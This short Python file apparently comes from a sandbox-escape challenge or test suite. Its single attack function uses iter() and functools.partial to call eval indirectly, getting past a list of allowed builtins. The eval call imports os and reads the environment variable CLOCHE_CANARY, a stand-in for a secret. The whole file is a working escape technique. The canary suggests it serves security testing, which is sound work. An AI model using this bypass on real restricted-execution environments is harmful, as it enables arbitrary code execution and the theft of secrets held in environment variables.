"""Class: builtins. Source: own find. Escape: iter(callable, sentinel) calls an unlisted callable."""

import functools


def attack(model, tokenizer, address):
    return next(iter(functools.partial(eval, "__import__('os').environ['CLOCHE_CANARY']"), None))
